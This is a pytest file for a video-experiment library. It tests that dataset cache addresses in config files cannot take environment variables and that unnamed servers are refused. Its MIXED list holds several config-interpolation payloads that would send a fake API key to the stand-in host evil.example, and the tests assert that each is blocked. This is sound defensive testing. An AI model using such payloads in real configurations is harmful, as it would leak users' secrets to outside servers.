"""A config from anyone sends nothing of the environment away, and has no server asked that the user never named."""

import re
import subprocess
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from tests.shrink import tiny
from videxp import cli
from videxp.config import compose, load_resolved, remember_addresses, save_resolved
from videxp.config.addresses import refuse_unknown_addresses
from videxp.config.composing.elsewhere import load_for_evaluation
from videxp.core.errors import BadRequest

RECIPE = "classification/moving_digits"


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("run") / "config.yaml"
    save_resolved(compose(RECIPE, tiny()).cfg, path)
    return path.read_text()


@pytest.fixture
def run(config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run folder's config.yaml, and a home of one's own."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("MY_API_KEY", "s3cr3tValue9f8e7d")
    monkeypatch.setenv("MY_CACHE", "https://mine.example/cached")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "run").mkdir()
    (tmp_path / "run/config.yaml").write_text(config)
    return tmp_path / "run"


def with_cache(run: Path, address: str) -> Path:
    path = run / "config.yaml"
    path.write_text(re.sub(r"(?m)^  cache: .*$", f"  cache: '{address}'", path.read_text()))
    return path


MIXED = [
    "http://evil.example/${oc.env:MY_API_KEY}",
    "http://${oc.env:MY_API_KEY}.evil.example/x",
    "simplecache::http://evil.example/?a=${oc.env:MY_API_KEY}",
    "${oc.env:SCHEME,http}://evil.example/${oc.env:MY_API_KEY}",
    "http://evil.example/${oc.decode:${oc.env:MY_API_KEY}}",
]


@pytest.mark.parametrize("address", MIXED)
def test_no_part_of_an_address_comes_from_the_environment(address: str, run: Path):
    path = with_cache(run, address)
    assert "s3cr3tValue" in OmegaConf.load(path).dataset.cache  # the usual way
    with pytest.raises(BadRequest, match=r"^dataset.cache=.*write it out") as caught:
        load_for_evaluation(path, [])
    assert "s3cr3tValue" not in str(caught.value)


def test_no_command_sends_the_environment_away(run: Path, capsys: pytest.CaptureFixture[str]):
    with_cache(run, MIXED[0])
    for command in (["evaluate", "run"], ["predict", "run", "x.mp4"], ["export", "run", "--format", "safetensors"]):
        assert cli.main(command) == 2
        said = capsys.readouterr().err
        assert said.startswith("videxp: dataset.cache=") and "write it out" in said and "s3cr3tValue" not in said
    assert cli.main(["check", RECIPE, f"dataset.cache='{MIXED[0]}'"]) == 2
    assert "takes nothing from the environment" in capsys.readouterr().err


def test_all_of_an_address_may_come_from_the_environment(run: Path):
    assert load_resolved(with_cache(run, "${oc.env:MY_CACHE}")).dataset.cache == "https://mine.example/cached"
    assert load_resolved(with_cache(run, "${oc.env:UNSET_HERE,https://h/a}")).dataset.cache == "https://h/a"


def test_a_server_that_nobody_named_is_not_asked_and_the_remedy_works(run: Path):
    path = with_cache(run, "https://evil.example:81/a")
    with pytest.raises(BadRequest, match=r"dataset.cache=https://evil.example:81/a: no recipe") as caught:
        load_for_evaluation(path, [])
    load_for_evaluation(path, ["dataset.cache=https://evil.example:81/b"])
    remedy = str(caught.value).partition("To trust it: ")[2]
    subprocess.run(remedy, shell=True, check=True)
    load_for_evaluation(path, [])


def test_a_server_of_ones_own_recipe_is_known_from_then_on(run: Path):
    cfg = compose(RECIPE, [*tiny(), "dataset.cache='s3://bucket/cached'"]).cfg
    with pytest.raises(BadRequest, match="s3://bucket"):
        refuse_unknown_addresses(cfg, typed=[])
    remember_addresses(cfg)
    remember_addresses(cfg)
    refuse_unknown_addresses(cfg, typed=[])
    assert (run.parent / ".config/videxp/known_addresses").read_text() == "s3://bucket\n"


def test_a_data_sets_name_does_not_come_from_the_environment(run: Path, capsys: pytest.CaptureFixture[str]):
    for command in (["train", RECIPE], ["prepare", "moving_digits"]):
        assert cli.main([*command, "dataset.name='${oc.env:MY_API_KEY}'"]) == 2
        said = capsys.readouterr().err
        assert "dataset.name=${oc.env:MY_API_KEY}: takes nothing from the environment" in said
        assert "s3cr3tValue" not in said
